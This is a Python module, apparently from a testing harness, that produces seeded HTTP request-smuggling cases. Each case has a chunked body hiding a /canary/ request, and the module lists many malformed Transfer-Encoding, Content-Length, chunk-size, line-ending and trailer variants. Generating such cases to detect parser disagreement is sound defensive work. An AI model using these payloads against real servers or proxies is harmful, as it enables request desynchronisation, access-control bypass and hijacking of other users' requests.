"""Requests whose end is in doubt, made from a seed: what one server might take for a body, and another for a request.

Each is a request for /first/N with a body that contains a request for /canary/N, which nobody may ever take for one. A request
for /after/N, with Connection: close, comes behind.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import pairwise

# Lines that say chunked, or nearly. {} is the value.
TE_NAMES = [
    "Transfer-Encoding: {}",
    "transfer-encoding:{}",
    "TRANSFER-ENCODING: \t{} ",
    "Transfer-Encoding : {}",
    "Transfer-Encoding\t: {}",
    " Transfer-Encoding: {}",
    "Transfer-Encoding\x00: {}",
    "Transfer-Encoding\x0b: {}",
    "X: y\rTransfer-Encoding: {}",
    "X: y\nTransfer-Encoding: {}",
    "X: y\r\n Transfer-Encoding: {}",
    "X: y\x00\r\nTransfer-Encoding: {}",
    "Transfer-Encoding;: {}",
    "Transfer-Encoding:\r\n {}",
    "Transfer-Encoding:\n\t{}",
    '"Transfer-Encoding": {}',
    "Transfer-\xadEncoding: {}",
    "Transfer-Encoding {}",
    "Transfer-Encoding: {}\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: {}",
    "Transfer-Encoding:\r\nTransfer-Encoding: {}",
    "Transfer-Encoding: {}\r\nTransfer-Encoding: {}",
    "Connection: transfer-encoding\r\nTransfer-Encoding: {}",
    "Transfer-Encoding: {}\r\nTE: trailers\r\nTrailer: Content-Length",
    "Transfer-Encoding: {}\r\nExpect: 100-continue",
]
OTHER_NAMES = ["Transfer_Encoding: {}", "Transfer-Encodin: {}", "X-Transfer-Encoding: {}", "TransferEncoding: {}", "TE: {}"]
TE_VALUES = [
    "chunked",
    "CHUNKED",
    "chunked ",
    "\tchunked",
    "chunked\t",
    "\x0bchunked",
    "chunked\x0c",
    "chunked\x00",
    "\xa0chunked",
    "chunked\x85",
    "xchunked",
    "chunkedx",
    "chun\x00ked",
    "chunked\r",
    "\rchunked",
    '"chunked"',
    "'chunked'",
    "chunked;",
    "chunked;a=b",
    "chunked, chunked",
    "gzip, chunked",
    "chunked, gzip",
    "identity",
    "identity, chunked",
    "chunked, identity",
    ",chunked",
    "chunked,",
    ",",
    "",
    "gzip",
    "chunked chunked",
    "chunk\r\n ed",
    "chunked\r\n\t",
    "cow, chunked",
    "chunked\n X: y",
    "chun\xebed",
    "deflate;q=1, chunked",
]
CL_LINES = [
    "Content-Length: {}",
    "content-length:{} ",
    "Content-Length : {}",
    "Content-Length: +{}",
    "Content-Length: 0x{}",
    "Content-Length: {},{}",
    "Content-Length: {}\r\nContent-Length: {}",
    "Content-Length: 0\r\nContent-Length: {}",
    "Content-Length: {}\r\nContent-Length: 0",
    "Content-Length: {} 0",
    "Content-Length: -{}",
    "Content-Length: {}.0",
    "Content-Length: {}\x0b",
    "Content-Length: \x0c{}",
    "Content-Length: {}\r\n 0",
    "X: y\rContent-Length: {}",
    "Content-Length\x00: {}",
    "Content-Length: {}_0",
    "Content-Length: 00{}",
    "Connection: content-length\r\nContent-Length: {}",
    "Content-Length: {}e0",
    "Content-Length: \xb2{}",
    "Content-Length:\r\nContent-Length: {}",
]
LINE_ENDS = ["\r\n", "\n", "\r", "\r\r\n", "\n\r", "\r\n ", "\r\n\t", "\x0b\r\n", "\x00\r\n", "\x85", ""]
SIZES = [
    "{:x}",
    "{:X}",
    "0{:x}",
    "000000000{:x}",
    "0x{:x}",
    "+{:x}",
    "-{:x}",
    " {:x}",
    "{:x} ",
    "{:x}\t",
    "\t{:x}",
    "{:x}\x0b",
    "{:x}\x00",
    "{:x}_0",
    "{:x}.0",
    "{:x},{:x}",
    "{:x};",
    "{:x};a",
    '{:x};a="b"',
    '{:x};a="\r\n"',
    "{:x};a=b;c",
    "{:x} ;a",
    "{:x}; ",
    "{:x};\n",
    "{:x};a\n",
    "1{:016x}",
    "10000000{:08x}",
    "ffffffffffffffff",
    "00000000000000000{:x}",
    "{:x}h",
    "{:x}g",
    "{:x} {:x}",
    '{:x};a="\\',
    "{:x}\r",
    "{:x}\n",
    "{:x};\xff",
    "{:x};a=\xff",
    "",
    "\xb2",
    "{:x};" + "a" * 300,
]
TRAILERS = [
    "",
    "A: b\r\n",
    "Content-Length: 50\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Transfer-Encoding: gzip\r\nContent-Length: 9\r\n",
    "Host: other\r\n",
    "Connection: close\r\n",
    "A: b\n",
    "A : b\r\n",
    " A: b\r\n",
    "A: b\r\n c\r\n",
    "A\r\n",
    "A: \x00\r\n",
    "A: b\r",
    ": b\r\n",
    "GET /canary/{} HTTP/1.1\r\nHost: h\r\n",
    "A: " + "b" * 20_000 + "\r\n",
]
METHODS = ["POST"] * 8 + ["PUT", "GET", "HEAD", "DELETE"]
MISTAKES = ["te", "name", "size", "ends", "trailer", "byte", "cl", "both", "head"]
BYTES = [b"\r", b"\n", b"\r\n", b" ", b"\t", b"\x00", b"\x0b", b";", b"0", b"g", b"+", b'"', b"\xff", b":", b""]


def attacks(count: int, seed: int) -> Iterator[bytes]:
    """So many, numbered from 0, the same for a seed."""
    random_ = random.Random(seed)
    for number in range(count):
        yield attack(random_, number)


def attack(random_: random.Random, number: int) -> bytes:
    """One, with one or two things wrong with it, or none."""
    canary = f"GET /canary/{number} HTTP/1.1\r\nHost: h\r\n\r\n".encode()
    content = b"x=1\r\n\r\n" + canary
    mistakes = random_.sample(MISTAKES, random_.choice((1, 1, 2)))
    body = chunked(random_, number, content, mistakes)
    method, minor = random_.choice(METHODS), random_.choice("1111110")
    lines = [f"{method} /first/{number} HTTP/1.{minor}", "Host: h"]
    value = random_.choice(TE_VALUES) if "te" in mistakes else "chunked"
    name = "Transfer-Encoding: {}"
    if "cl" in mistakes:
        body = content
        lines.append(random_.choice(CL_LINES).replace("{}", str(len(body))))
    elif "name" in mistakes and random_.random() < 0.3:  # another field, so that the length alone counts
        lines += [f"Content-Length: {len(body)}", random_.choice(OTHER_NAMES).replace("{}", value)]
    else:
        if "name" in mistakes:
            name = random_.choice(TE_NAMES)
        lines.append(name.replace("{}", value))
        if "both" in mistakes:
            length = random_.choice([0, 3, body.find(b"GET "), len(body) - 5, len(body), len(body) + 50])
            lines.insert(random_.choice((2, 3)), f"Content-Length: {length}")
    ends = [random_.choice(LINE_ENDS) if "head" in mistakes and random_.random() < 0.3 else "\r\n" for _ in lines]
    head = "".join(line + end for line, end in zip(lines, ends, strict=True)).encode("latin-1")
    after = f"GET /after/{number} HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n".encode()
    return head + b"\r\n" + body + after


def chunked(random_: random.Random, number: int, content: bytes, mistakes: list[str]) -> bytes:
    """The content in chunks, one to three, with these mistakes."""
    cuts = sorted({0, len(content), *random_.sample(range(len(content)), random_.choice((0, 0, 1, 2)))})
    pieces = [content[a:b] for a, b in pairwise(cuts)] + [b""]
    wrong = random_.randrange(len(pieces))
    parts: list[bytes] = []
    for index, piece in enumerate(pieces):
        here = index == wrong
        size = random_.choice(SIZES) if here and "size" in mistakes else "{:x}"
        line_end = random_.choice(LINE_ENDS) if here and "ends" in mistakes else "\r\n"
        line = size.format(len(piece), len(piece)).encode("latin-1") + line_end.encode("latin-1")
        if here and "byte" in mistakes:  # put in, or in the place of another
            at = random_.randrange(len(line) + 1)
            line = line[:at] + random_.choice(BYTES) + line[at + random_.choice((0, 1)) :]
        parts += [line, piece]
        if piece:
            parts.append((random_.choice(LINE_ENDS) if here and "ends" in mistakes else "\r\n").encode("latin-1"))
    trailer = random_.choice(TRAILERS).format(number) if "trailer" in mistakes else ""
    return b"".join(parts) + trailer.encode("latin-1") + b"\r\n"
